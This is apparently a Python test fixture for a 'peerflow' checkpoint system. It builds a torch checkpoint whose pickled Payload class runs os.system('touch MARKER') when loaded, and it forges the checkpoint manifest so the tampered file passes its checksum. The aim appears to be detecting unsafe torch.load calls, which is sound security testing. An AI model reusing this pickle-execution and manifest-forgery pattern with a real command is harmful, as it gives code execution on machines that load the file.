"""A hostile checkpoint file: a torch pickle whose load runs a shell command.

`plant(path, marker)` replaces `path` with `torch.save` of an object whose `__reduce__`
is `os.system("touch MARKER")` — what any `torch.load(weights_only=False)` of it runs —
and `forge_manifest(step_dir)` rewrites the checkpoint's manifest over the planted file,
as an attacker who can write the checkpoint does (the manifest is a checksum, not a
signature). The marker file existing afterwards means the payload ran.
"""

from __future__ import annotations

import os
from pathlib import Path

import torch


class Payload:
    """Unpickles as `os.system(f"touch {marker}")`."""

    def __init__(self, marker: str | Path) -> None:
        self.marker = str(marker)

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def plant(path: str | Path, marker: str | Path) -> Path:
    """Replaces `path` with a torch file holding `Payload(marker)` inside ordinary state."""
    path = Path(path)
    torch.save({"optimizer_state_dict": {"state": Payload(marker)}, "ds_version": "0.19.8"},
               path)
    return path


def forge_manifest(step_dir: str | Path) -> None:
    """Rewrites `MANIFEST.json` so that the planted files pass their checksums."""
    from peerflow.checkpoint import write_manifest

    step_dir = Path(step_dir)
    write_manifest(step_dir, step=int(step_dir.name.removeprefix("step_")))
